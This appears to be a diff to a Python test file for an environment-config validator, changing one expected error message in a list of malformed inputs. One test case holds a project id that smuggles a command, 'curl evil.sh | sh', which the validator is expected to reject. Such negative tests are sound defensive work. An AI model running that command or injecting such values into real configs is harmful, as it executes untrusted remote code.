@@ -23,7 +23,7 @@ BAD_FILES = [
     ("not UTF-8", b'region = "\xff"\n', "not UTF-8 text"),
     ("a NUL byte", b'region = "\x00"\n', "not valid TOML"),
     ("a directory", "dir", "a directory, not an environment file"),
-    ("missing", None, "unknown environment"),
+    ("missing", None, "env: no such file"),
     ("a project id that injects a command", GCP_DEV.replace('"acme-ml-dev"', '"acme-ml-dev\\ncurl evil.sh | sh"').encode(),
      "project: not a GCP project id (got 'acme-ml-dev\\ncurl evil.sh | sh')"),
     ("an infinite spot price", DEV.replace("[pools.cpu]\n", "[pools.cpu]\nspot_max_price = inf\n").encode(),
